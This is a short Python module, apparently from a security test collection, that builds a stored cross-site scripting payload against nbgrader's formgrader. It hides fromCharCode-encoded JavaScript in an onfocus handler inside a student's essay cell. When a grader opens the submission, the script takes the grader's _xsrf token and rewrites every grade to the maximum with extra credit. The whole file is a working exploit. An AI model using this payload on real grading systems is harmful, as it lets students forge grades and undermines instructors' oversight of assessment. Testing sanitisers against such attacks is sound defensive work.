"""A text that has formgrader's page give its author full marks when the page is opened."""

from attacks.attack import Attack, Submission

SCRIPT = """
(async () => {
  const x = document.cookie.split('; ').find(c => c.startsWith('_xsrf=')).slice(6);
  const found = await fetch(base_url + '/api/grades?submission_id=' + submission_id);
  for (const each of await found.json()) await fetch(base_url + '/api/grade/' + each.id, {
    method: 'PUT',
    headers: {'X-CSRFToken': x, 'Content-Type': 'application/json'},
    body: JSON.stringify({...each, manual_score: each.max_score, extra_credit: 7}),
  });
})()
"""


def change(submission: Submission) -> None:
    """Write such a text."""
    code = ",".join(str(ord(letter)) for letter in SCRIPT.strip())
    marked = f"window.{submission.scene.mark}=1"
    handler = f"onfocus={marked};onfocus=null;eval(String.fromCharCode({code}))//"
    submission.cell("essay")["source"] = (
        f"An answer.\n\n<div>\n<https://contenteditable/autofocus/{handler}>\n</div>\n"
    )


ATTACK = Attack(
    __doc__,
    nl="Een tekst die de pagina van formgrader bij het openen alle punten laat geven.",
    change=change,
)
